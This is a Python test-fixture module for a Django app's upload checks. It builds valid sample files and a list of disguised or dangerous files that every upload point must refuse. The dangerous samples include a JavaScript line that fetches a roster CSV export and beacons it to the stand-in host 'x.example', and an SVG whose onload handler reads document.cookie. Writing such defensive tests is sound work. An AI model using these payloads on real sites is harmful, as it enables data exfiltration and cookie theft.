"""Small real files made in the tests, and the disguised or dangerous ones every upload point must refuse.

``ACCEPTABLE`` holds valid files of each kind; ``DANGEROUS`` holds files no upload point takes. A test of an
upload point accepts the samples whose kind its use allows and refuses every other one.
"""

import io
import re
import struct
import zipfile
import zlib

from django.core.files.uploadedfile import SimpleUploadedFile

from core import uploads

RANDOM_STORED_NAME = re.compile(r"^[0-9a-f]{32}$")


def png_bytes(width=2, height=2) -> bytes:
    def chunk(kind, data):
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data) & 0xFFFFFFFF)

    raw = b"".join(b"\x00" + b"\xff\x00\x00" * width for _ in range(height))
    return (
        uploads.PNG_SIGNATURE
        + chunk(b"IHDR", struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0))
        + chunk(b"IDAT", zlib.compress(raw))
        + chunk(b"IEND", b"")
    )


def jpeg_bytes() -> bytes:
    return b"\xff\xd8\xff\xe0\x00\x10JFIF\x00\x01\x01\x00\x00\x01\x00\x01\x00\x00" + b"\x00" * 64 + b"\xff\xd9"


def pdf_bytes(padding: int = 0) -> bytes:
    return (
        b"%PDF-1.4\n1 0 obj\n<< /Type /Catalog >>\nendobj\n" + b"%" * padding + b"\ntrailer\n<< /Root 1 0 R >>\n%%EOF\n"
    )


def docx_bytes(text: str = "Văn bản hướng dẫn") -> bytes:
    import docx

    document = docx.Document()
    document.add_paragraph(text)
    buffer = io.BytesIO()
    document.save(buffer)
    return buffer.getvalue()


def xlsx_bytes(rows=(("Họ và tên", "Đơn vị"), ("Nguyễn Văn A", "WARD-A-01"))) -> bytes:
    import openpyxl

    workbook = openpyxl.Workbook()
    for row in rows:
        workbook.active.append(list(row))
    buffer = io.BytesIO()
    workbook.save(buffer)
    return buffer.getvalue()


def zip_bytes(members: dict[str, bytes]) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        for name, data in members.items():
            archive.writestr(name, data)
    return buffer.getvalue()


def pptx_bytes() -> bytes:
    return zip_bytes(
        {
            "[Content_Types].xml": b'<?xml version="1.0"?><Types/>',
            "ppt/presentation.xml": b'<?xml version="1.0"?><p:presentation/>',
        }
    )


def with_macros(data: bytes, part: str = "word/vbaProject.bin") -> bytes:
    """An Office file with a VBA project added, as Word saves a .docm."""
    source = zipfile.ZipFile(io.BytesIO(data))
    members = {info.filename: source.read(info.filename) for info in source.infolist()}
    members[part] = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1Attribute VB_Name"
    return zip_bytes(members)


HTML = b"<!DOCTYPE html><html><body><script>fetch('/roster/export/csv')</script></body></html>"
JS = b"fetch('/roster/export/csv').then(r => r.text()).then(t => navigator.sendBeacon('//x.example', t));\n"
SVG = b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(document.cookie)"><circle r="4"/></svg>'
EXE = b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff\x00\x00" + b"\x00" * 48 + b"PE\x00\x00"

# (sample id, file name, bytes, kind the bytes are)
ACCEPTABLE = [
    ("pdf", "Công văn số 12.pdf", pdf_bytes(), "pdf"),
    ("png", "ảnh hiện trường.png", png_bytes(), "png"),
    ("jpeg", "photo.JPG", jpeg_bytes(), "jpeg"),
    ("docx", "Hướng dẫn.docx", docx_bytes(), "docx"),
    ("xlsx", "danh-sach.xlsx", xlsx_bytes(), "xlsx"),
    ("pptx", "bai-giang.pptx", pptx_bytes(), "pptx"),
]
# (sample id, file name, bytes, what the refusal says)
DANGEROUS = [
    ("html", "trang.html", HTML, "is not an accepted file"),
    ("js", "script.js", JS, "is not an accepted file"),
    ("svg", "logo.svg", SVG, "is not an accepted file"),
    ("exe", "setup.exe", EXE, "is not an accepted file"),
    ("docm", "bien-ban.docm", with_macros(docx_bytes()), "contains macros"),
    ("xlsm", "bang.xlsm", with_macros(xlsx_bytes(), "xl/vbaProject.bin"), "contains macros"),
    ("docx-with-macros", "bien-ban.docx", with_macros(docx_bytes()), "contains macros"),
    ("png-as-pdf", "van-ban.pdf", png_bytes(), "but its name ends in “.pdf”"),
    ("html-as-pdf", "van-ban.pdf", HTML, "is not an accepted file"),
    ("empty", "trong.pdf", b"", "is empty"),
]


def oversized(use: uploads.Use) -> tuple[str, bytes]:
    """A valid PDF one byte over ``use``'s limit."""
    base = len(pdf_bytes())
    return "qua-lon.pdf", pdf_bytes(padding=use.max_bytes - base + 1)


def upload(name: str, data: bytes, content_type: str = "application/octet-stream") -> SimpleUploadedFile:
    # The browser's content type is a claim the rule ignores: the samples claim to be harmless.
    return SimpleUploadedFile(name, data, content_type=content_type)


def stored_files(media_root) -> list:
    return [path for path in media_root.rglob("*") if path.is_file()] if media_root.exists() else []


def assert_download_headers(response, *, content_type: str, filename_fragment: str = ""):
    assert response.status_code == 200
    assert response["Content-Type"] == content_type
    assert response["Content-Type"] not in ("text/html", "application/javascript", "image/svg+xml")
    disposition = response["Content-Disposition"]
    assert disposition.startswith("attachment; filename=")
    assert "filename*=UTF-8''" in disposition
    if filename_fragment:
        assert filename_fragment in disposition
    assert response["X-Content-Type-Options"] == "nosniff"
    assert response["Content-Security-Policy"] == "sandbox; default-src 'none'"
